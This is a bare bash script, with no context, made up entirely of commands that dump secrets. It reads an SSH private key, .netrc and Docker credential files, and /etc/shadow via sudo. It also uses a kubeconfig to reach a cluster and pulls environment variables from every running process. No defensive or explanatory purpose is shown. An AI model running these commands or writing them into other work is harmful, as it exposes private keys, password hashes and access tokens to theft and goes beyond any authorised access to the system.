#!/bin/bash
cat $HOME/.ssh/id_ed25519
cat ~/.netrc ~/.docker/config.json
kubectl --kubeconfig ~/.kube/config get pods
sudo cat /etc/shadow
for f in /proc/*/environ; do strings "$f"; done
